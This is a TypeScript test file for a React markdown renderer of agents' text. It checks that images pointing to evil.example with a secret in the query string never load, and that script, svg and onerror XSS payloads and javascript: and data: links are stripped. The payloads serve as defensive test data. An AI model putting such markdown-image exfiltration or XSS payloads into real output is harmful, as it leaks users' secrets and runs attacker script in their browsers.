import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Prose } from './prose';

const html = (text: string): string => renderToStaticMarkup(<Prose text={text} />);

describe('words of agents', () => {
  it('L7: fetch no picture, whatever the markdown says', () => {
    const out = html('![secret](https://evil.example/?q=SECRET) and ![x][1]\n\n[1]: https://evil.example/y.png');
    expect(out).not.toContain('<img');
    expect(out).toContain('href="https://evil.example/?q=SECRET"');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
  });

  it('U1: have no HTML of their own', () => {
    const out = html('<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>\n\n**bold** <b>x</b>');
    expect(out).not.toMatch(/<(script|img|svg|b>)/);
    expect(out).toContain('<strong>bold</strong>');
  });

  it('U1: have no links but to the web', () => {
    const out = html('[a](javascript:alert(1)) [b](data:text/html,x) [c](/api/auth/sign-out) [d](https://ok.example)');
    expect(out.match(/href=/g)).toHaveLength(1);
    expect(out).toContain('href="https://ok.example"');
  });
});
